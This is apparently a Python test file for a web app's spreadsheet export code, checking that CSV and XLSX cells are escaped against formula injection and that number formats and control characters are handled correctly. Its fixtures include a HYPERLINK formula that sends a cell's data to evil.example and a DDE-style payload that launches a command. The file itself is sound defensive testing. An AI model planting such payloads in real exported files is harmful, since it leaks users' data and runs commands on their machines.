"""Text written to XLSX and CSV is data, never a formula (`core.spreadsheets`): the rule as a
table, the XLSX cells openpyxl writes in both of its modes, and the SQL twin of the CSV rule."""

from __future__ import annotations

import datetime
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from envhub.core.spreadsheets import DataSheet, csv_text, postgresql_csv_text

EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"Xem chi tiết")'

CSV_CASES = [
    (EVIL, "'" + EVIL),
    ("=1+1", "'=1+1"),
    ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1)", "'@SUM(1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-", "'-"),
    ("--5", "'--5"),
    ("-5e", "'-5e"),
    # Plain numbers written as text are no formula.
    ("-5", "-5"),
    ("-1.5", "-1.5"),
    ("+1,5", "+1,5"),
    ("-.5", "-.5"),
    ("+1.5e3", "+1.5e3"),
    # Text that does not start a formula, and values that are not text.
    ("Nhà máy =1", "Nhà máy =1"),
    (" =1+1", " =1+1"),
    ("", ""),
    (-5, -5),
    (-1.5, -1.5),
    (None, None),
    (datetime.date(2026, 1, 2), datetime.date(2026, 1, 2)),
]


@pytest.mark.parametrize("value, written", CSV_CASES)
def test_csv_cells_that_would_run_as_formulas_are_escaped(value, written):
    assert csv_text(value) == written


@pytest.mark.django_db
@pytest.mark.parametrize("value, written", [case for case in CSV_CASES
                                            if isinstance(case[0], str)])
def test_postgresql_escapes_csv_text_as_python_does(value, written):
    from django.db import connection

    if connection.vendor != "postgresql":
        pytest.skip("the SQL is PostgreSQL's (CSV written by COPY)")
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT {postgresql_csv_text('t.v')} FROM (SELECT %s::text AS v) t",
                       [value])
        assert cursor.fetchone()[0] == written


@pytest.mark.parametrize("write_only", [True, False], ids=["write-only", "ordinary"])
def test_xlsx_text_is_stored_as_text(write_only):
    book = Workbook(write_only=write_only)
    sheet = DataSheet(book.create_sheet("data") if write_only else book.active)
    row = [EVIL, "#N/A", "+1", "@x", -5, "-5", 2.5, None, "Hà Nội"]
    sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)

    with zipfile.ZipFile(buffer) as archive:
        xml = "".join(archive.read(name).decode() for name in archive.namelist()
                      if name.startswith("xl/worksheets/"))
    assert "<f>" not in xml and "<f " not in xml
    cells = list(load_workbook(buffer).worksheets[0].iter_rows())[0]
    assert [cell.value for cell in cells] == row
    assert [cell.data_type for cell in cells] == ["s", "s", "s", "s", "n", "s", "n", "n", "s"]


@pytest.mark.parametrize("write_only", [True, False], ids=["write-only", "ordinary"])
def test_control_characters_do_not_stop_the_file(write_only):
    """openpyxl refuses a whole workbook for one control character in one cell."""
    book = Workbook(write_only=write_only)
    sheet = DataSheet(book.create_sheet("data") if write_only else book.active)
    sheet.append(["Công ty\x01ABC", "=1+1\x1f", "tab\tand\nnewline", 3])
    buffer = io.BytesIO()
    book.save(buffer)

    cells = list(load_workbook(buffer).worksheets[0].iter_rows(values_only=True))[0]
    assert cells == ("Công ty\ufffdABC", "=1+1\ufffd", "tab\tand\nnewline", 3)


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_numbers_stay_numbers_with_the_site_s_decimals(write_only):
    """Number columns get Excel's format for the decimals the site shows (core/numbers.py);
    the values stay as they are unless the sheet rounds them."""
    book = Workbook(write_only=write_only)
    raw = DataSheet(book.create_sheet("raw") if write_only else book.active, {1: 2, 2: 6})
    shown = DataSheet(book.create_sheet("shown"), {1: 2}, round_numbers=True)
    rows = [("a", 49.37038337924701, 21.0278), ("b", 0.0123, 105.834161), ("c", 50.0, 0),
            ("d", 1734, None), ("e", "n/a", 1.5), ("f", 50.004, 1.0)]
    for row in rows:
        raw.append(row)
    for row in rows:
        shown.append(row, against={1: 50})
    buffer = io.BytesIO()
    book.save(buffer)
    read = load_workbook(buffer)
    cells = [(row[1].value, row[1].number_format, row[2].value, row[2].number_format)
             for row in read["raw" if write_only else read.sheetnames[0]].iter_rows()]
    assert cells == [
        (49.37038337924701, "#,##0.00", 21.0278, "#,##0.0000"),
        (0.0123, "#,##0.000", 105.834161, "#,##0.000000"),
        (50, "#,##0", 0, "#,##0"),
        (1734, "#,##0", None, "General"),
        ("n/a", "General", 1.5, "#,##0.0"),
        (50.004, "#,##0", 1, "#,##0"),  # "50", as format_number without a limit
    ]
    assert [(row[1].value, row[1].number_format) for row in read["shown"].iter_rows()] == [
        (49.37, "#,##0.00"), (0.012, "#,##0.000"), (50, "#,##0"), (1734, "#,##0"),
        ("n/a", "General"), (50.004, "#,##0.000")]


def test_a_write_only_sheet_reuses_one_cell_per_column_and_decimals():
    """No styled cell is made per value where openpyxl writes each cell as it comes (the cost
    of formats on a download of millions of cells; bench/xlsx_numbers.py)."""
    streamed = DataSheet(Workbook(write_only=True).create_sheet("data"), {0: 2})
    assert streamed._cell(0, 2, 1.5) is streamed._cell(0, 2, 2.5)
    kept = DataSheet(Workbook().active, {0: 2})  # an ordinary sheet keeps each cell object
    assert kept._cell(0, 2, 1.5) is not kept._cell(0, 2, 2.5)
